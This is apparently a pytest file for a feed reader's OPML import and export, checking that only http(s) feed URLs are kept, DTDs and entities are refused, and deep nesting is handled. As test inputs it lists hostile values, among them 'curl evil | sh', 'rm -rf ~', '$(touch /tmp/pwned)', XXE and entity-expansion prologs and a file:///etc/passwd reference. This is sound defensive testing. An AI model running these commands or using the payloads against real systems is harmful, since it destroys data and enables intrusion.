"""opml.py: read subscriptions safely (only http(s), no DTDs, deep nesting), write OPML 2.0."""

from __future__ import annotations

import xml.etree.ElementTree as ET
from datetime import UTC, datetime
from email.utils import parsedate_to_datetime

import pytest

from readerterm.errors import UsageError
from readerterm.feeds.opml import MAX_DEPTH, Outline, read_opml, write_opml
from readerterm.models import Feed

NOW = datetime(2024, 6, 1, 12, 0, tzinfo=UTC)


def opml(body: str, *, version: str = "2.0") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<opml version="{version}">'
        f"<head><title>subs</title></head><body>{body}</body></opml>"
    ).encode()


def test_flat_list() -> None:
    outlines, skipped = read_opml(
        opml(
            '<outline type="rss" text="A" xmlUrl="https://a.example/feed" htmlUrl="https://a.example/"/>'
            '<outline type="rss" title="B title" text="B text" xmlUrl=" https://b.example/rss "/>'
            '<outline type="rss" xmlUrl="http://c.example/atom"/>'
        )
    )
    assert outlines == [
        Outline(url="https://a.example/feed", title="A", tags=(), site_url="https://a.example/"),
        Outline(url="https://b.example/rss", title="B title", tags=()),
        Outline(url="http://c.example/atom", title=None, tags=()),
    ]
    assert skipped == []


def test_folders_become_tags() -> None:
    outlines, _ = read_opml(
        opml(
            '<outline text="News">'
            '  <outline text="World"><outline text="A" xmlUrl="https://a.example/feed"/></outline>'
            '  <outline text="B" xmlUrl="https://b.example/feed" category="/tech,science"/>'
            "</outline>"
            '<outline text="C" xmlUrl="https://c.example/feed"/>'
        )
    )
    tags = {o.url: o.tags for o in outlines}
    assert tags == {
        "https://a.example/feed": ("News", "World"),
        "https://b.example/feed": ("News", "tech", "science"),
        "https://c.example/feed": (),
    }


def test_opml_1_and_lowercase_attribute() -> None:
    outlines, _ = read_opml(
        opml('<outline text="A" xmlurl="https://a.example/feed"/>', version="1.0")
    )
    assert [o.url for o in outlines] == ["https://a.example/feed"]


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        "javascript:alert(1)",
        "ftp://example.org/feed",
        "feed://example.org/rss",
        "data:text/xml,&lt;rss/&gt;",
        "$(touch /tmp/pwned)",
        "`id`",
        "https://example.org/a&#10;b",
        "https://example.org/a b",
        "http://[::1",
    ],
)
def test_other_urls_are_skipped_with_a_reason(url: str) -> None:
    outlines, skipped = read_opml(
        opml(
            f'<outline text="Bad" xmlUrl="{url}"/>'
            '<outline text="Good" xmlUrl="https://good.example/feed"/>'
        )
    )
    assert [o.url for o in outlines] == ["https://good.example/feed"]
    assert len(skipped) == 1
    assert "not an http(s) feed URL" in skipped[0]
    assert "\n" not in skipped[0]


def test_podcast_style_command_attributes_are_ignored() -> None:
    outlines, _ = read_opml(
        opml(
            '<outline text="P" xmlUrl="https://p.example/feed" '
            'exec="rm -rf ~" command="curl evil | sh" onclick="x"/>'
        )
    )
    assert outlines == [Outline(url="https://p.example/feed", title="P", tags=())]


@pytest.mark.parametrize(
    "prolog",
    [
        '<!DOCTYPE opml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE opml SYSTEM "file:///etc/passwd">',
        '<!doctype opml [<!ENTITY x SYSTEM "http://127.0.0.1:9/">]>',
        '<!ENTITY loose "x">',
    ],
)
def test_dtds_and_entities_are_refused(prolog: str) -> None:
    content = (
        '<?xml version="1.0"?>\n' + prolog + '<opml version="2.0"><body>'
        '<outline text="&amp;" xmlUrl="https://a.example/feed"/></body></opml>'
    ).encode()
    with pytest.raises(UsageError, match="DTD or entities"):
        read_opml(content)


def test_dtd_in_a_utf16_file_is_refused_too() -> None:
    content = (
        '<?xml version="1.0" encoding="utf-16"?>\n<!DOCTYPE opml [\n<!ENTITY big "'
        + "A" * 10_000
        + '">\n]>\n<opml version="2.0"><head/><body><outline type="rss" text="'
        + "&big;" * 200
        + '" xmlUrl="https://u16.example/feed"/></body></opml>'
    ).encode("utf-16")
    with pytest.raises(UsageError, match="DTD or entities"):
        read_opml(content)


def test_utf16_file_without_dtd_is_read() -> None:
    content = (
        '<?xml version="1.0" encoding="utf-16"?><opml version="2.0"><head/><body>'
        '<outline text="Café" xmlUrl="https://u16.example/feed"/></body></opml>'
    ).encode("utf-16")
    assert read_opml(content)[0] == [Outline("https://u16.example/feed", "Café", ())]


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", "^not an OPML file: it is empty$"),
        (b"  \n", "^not an OPML file: it is empty$"),
        (b"hello, not XML", "^not an OPML file: it is not XML$"),
        (
            b"<opml><body><outline",
            r"^not a valid OPML file: the XML is broken \(an unfinished tag at line 1,"
            r" column 13\)$",
        ),
        (
            b"<opml>\n<body></opml>",
            r"^not a valid OPML file: the XML is broken \(a closing tag that does not match its"
            r" opening tag at line 2, column 9\)$",
        ),
        (b'<rss version="2.0"><channel/></rss>', "root element is <rss>"),
        (b'<opml version="2.0"><head/></opml>', "no <body>"),
        (b"\xff\xfe\x00garbage", "not a valid OPML"),
    ],
)
def test_invalid_documents(content: bytes, reason: str) -> None:
    # In words, and where: the parser said "syntax error: line 1, column 0" of a text file,
    # "no element found: line 1, column 0" of an empty one.
    with pytest.raises(UsageError, match=reason):
        read_opml(content)


def test_100000_deep_nesting_does_not_crash() -> None:
    depth = 100_000
    body = (
        '<outline text="f">' * depth
        + '<outline text="Deep" xmlUrl="https://deep.example/feed"/>'
        + "</outline>" * depth
        + '<outline text="Shallow" xmlUrl="https://shallow.example/feed"/>'
    )
    outlines, skipped = read_opml(opml(body))
    assert [o.url for o in outlines] == ["https://shallow.example/feed"]
    assert any("nested too deeply" in reason for reason in skipped)


def test_nesting_up_to_the_limit_is_read() -> None:
    depth = MAX_DEPTH - 1
    body = (
        "".join(f'<outline text="f{i}">' for i in range(depth))
        + '<outline text="Deep" xmlUrl="https://deep.example/feed"/>'
        + "</outline>" * depth
    )
    (outline,), skipped = read_opml(opml(body))
    assert outline.url == "https://deep.example/feed"
    assert outline.tags == tuple(f"f{i}" for i in range(depth))
    assert skipped == []


def test_odd_characters_in_titles_are_cleaned() -> None:
    outlines, _ = read_opml(
        opml(
            '<outline text="Folder&#10;with&#9;breaks [b]x[/b]">'
            '<outline text="Title &lt;b&gt; &amp; &quot;q&quot; &#x202E;evil [@click=app.quit]" '
            'xmlUrl="https://a.example/feed"/></outline>'
        )
    )
    (outline,) = outlines
    assert outline.title == 'Title <b> & "q" evil [@click=app.quit]'
    assert outline.tags == ("Folder with breaks [b]x[/b]",)


# --- export --------------------------------------------------------------------------------


def feed(
    feed_id: int, url: str, title: str, tags: tuple[str, ...] = (), site: str | None = None
) -> Feed:
    return Feed(id=feed_id, url=url, title=title, tags=tags, site_url=site)


FEEDS = [
    feed(1, "https://a.example/feed", "A & B <news>", ("world",), "https://a.example/"),
    feed(2, "https://b.example/rss?x=1&y=2", "Quotes \"here\" and 'there'", ("tech", "linux")),
    feed(3, "https://c.example/atom", "Café 東京 [@click=app.quit]"),
    feed(4, "https://d.example/feed", "Second in world", ("world",)),
]


def test_export_is_valid_opml_2() -> None:
    document = write_opml(FEEDS, now=NOW)
    assert document.startswith('<?xml version="1.0" encoding="UTF-8"?>')
    root = ET.fromstring(document.encode("utf-8"))
    assert root.tag == "opml"
    assert root.get("version") == "2.0"
    head = root.find("head")
    assert head is not None
    assert head.findtext("title")
    assert parsedate_to_datetime(head.findtext("dateCreated") or "") == NOW
    body = root.find("body")
    assert body is not None
    feeds = [o for o in body.iter("outline") if o.get("xmlUrl")]
    assert len(feeds) == 4
    for outline in feeds:
        assert outline.get("type") == "rss"
        assert outline.get("text")  # required by OPML 2.0
    first = next(o for o in feeds if o.get("xmlUrl") == "https://a.example/feed")
    assert first.get("htmlUrl") == "https://a.example/"


def test_export_reimports_to_the_same_feeds() -> None:
    outlines, skipped = read_opml(write_opml(FEEDS, now=NOW).encode("utf-8"))
    assert skipped == []
    assert {(o.url, o.title, o.tags) for o in outlines} == {(f.url, f.title, f.tags) for f in FEEDS}


def test_export_of_nothing() -> None:
    assert read_opml(write_opml([], now=NOW).encode("utf-8")) == ([], [])


def test_export_with_characters_xml_cannot_hold_still_reimports() -> None:
    """A feed title taken from a loosely parsed feed may hold U+FFFF or U+FFFE (not allowed
    in XML 1.0); one such title must not make the whole export unreadable."""
    feeds = [
        feed(1, "https://a.example/feed", "Bad \uffff title", ("t\ufffe",)),
        feed(2, "https://b.example/feed", "Fine"),
    ]
    outlines, _ = read_opml(write_opml(feeds, now=NOW).encode("utf-8"))
    assert [o.url for o in outlines] == ["https://a.example/feed", "https://b.example/feed"]
